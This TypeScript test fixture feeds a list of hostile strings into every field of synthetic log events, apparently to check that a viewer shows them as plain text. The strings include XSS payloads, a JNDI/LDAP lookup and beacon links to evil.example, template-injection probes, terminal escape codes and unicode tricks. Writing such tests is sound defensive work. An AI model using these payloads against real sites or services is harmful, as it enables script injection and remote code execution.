import type { JsonObject } from '../../src/core/document.ts'
import type { EventBatch } from '../../src/core/event-batch.ts'
import { stampAt, streamOf } from './corpus.ts'

/** Each sets `window.pwned` or asks another host for something, if any part of the page takes it for more than text. */
export const HOSTILE: readonly string[] = [
  '<img src=x onerror="window.pwned=1">',
  '<script>window.pwned=2</script>',
  '</script><script>window.pwned=3</script>',
  '</textarea></pre><svg onload="window.pwned=4"><circle r=9></svg>',
  '<a href="javascript:window.pwned=5">javascript:window.pwned=5</a>',
  '"><iframe srcdoc="<script>parent.pwned=6</script>">',
  "' onmouseover='window.pwned=7' autofocus onfocus='window.pwned=7",
  '<link rel=stylesheet href=http://evil.example/x.css><style>*{display:none}</style>',
  'http://evil.example/beacon.png https://evil.example/',
  '<math><mi xlink:href="data:x,<script>window.pwned=8</script>">',
  'admin\u202Etxt.exe\u202C zero\u200Bwidth \u2066isolate\u2069 \uFEFFbom',
  '\u001B[2J\u001B]0;title\u0007\u001B]52;c;cHduZWQ=\u0007 \u009B31m red \u0000 nul \b\b',
  'one\r\ntwo\u2028three\u000Bfour',
  '{{7*7}} ${7*7} <%= 7*7 %> #{7*7}',
  '${jndi:ldap://evil.example/a}',
  '%s%n%x &lt;b&gt; &#60;b&#62; \\u003cb\\u003e',
  '__proto__ constructor prototype toString',
  'lone \uD800 surrogate \u{E0041} tag',
]

/** Every hostile text in every field that the page has a place for, and in names of fields. */
export function hostileEvents(): EventBatch {
  const documents = HOSTILE.map(
    (text, index): JsonObject => ({
      '@timestamp': stampAt(1_000_000 + index * 1000),
      message: `match ${text}`,
      event: { dataset: text, action: text, original: text },
      rule: { id: [text], name: [text], level: [text] },
      tags: [text],
      threat: { technique: { id: text, name: text }, tactic: { name: text } },
      user: { name: text },
      process: { name: text },
      source: { ip: text },
      kubernetes: { namespace: text, pod: { name: text } },
      labels: Object.fromEntries([[text, text]]),
      decklog: { quality: [text], raw: 'PGltZyBzcmM9eCBvbmVycm9yPSJ3aW5kb3cucHduZWQ9OSI+AP8=' },
    }),
  )
  return streamOf(documents, { number: 66, class: 'pod', node: HOSTILE[0]! })
}
